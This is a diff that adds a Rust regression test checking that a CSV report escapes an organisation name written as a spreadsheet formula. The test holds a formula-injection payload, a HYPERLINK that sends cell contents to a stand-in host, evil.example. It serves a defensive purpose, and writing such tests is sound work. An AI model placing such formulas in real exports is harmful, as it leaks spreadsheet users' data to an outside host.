@@ -90,3 +90,34 @@ async fn imported_councils_have_their_statistics(db: &TestDatabase) {
     assert!(differences.is_empty(), "{differences:#?}");
     let _ = std::fs::remove_dir_all(&dir);
 }
+
+on_both_backends!(the_national_csv_is_formula_safe);
+
+/// Issue 23: `report national --format csv` wrote an organisation named `=HYPERLINK(...)` as a
+/// live formula.
+async fn the_national_csv_is_formula_safe(db: &TestDatabase) {
+    let store = redress_store::Store::connect(&db.url).await.unwrap();
+    let hostile = r#"=HYPERLINK("http://evil.example/?d="&A1,"Thanks")"#;
+    let new = redress_store::NewOrganisation {
+        name: hostile.to_string(),
+        ..redress_store::NewOrganisation::with_defaults("hostile")
+    };
+    let actor = redress_store::Actor {
+        label: "test".into(),
+        user_id: None,
+        address: None,
+    };
+    store.create_organisation(&new, &actor).await.unwrap();
+    store.close().await;
+    let csv = ok(redress(
+        db,
+        &["report", "national", "--year", "2020", "--format", "csv"],
+    ));
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let names: Vec<String> = reader
+        .records()
+        .map(|r| r.unwrap()[1].to_string())
+        .collect();
+    assert!(names.contains(&format!("'{hostile}")), "{csv}");
+    assert!(names.iter().all(|n| !n.starts_with('=')), "{csv}");
+}
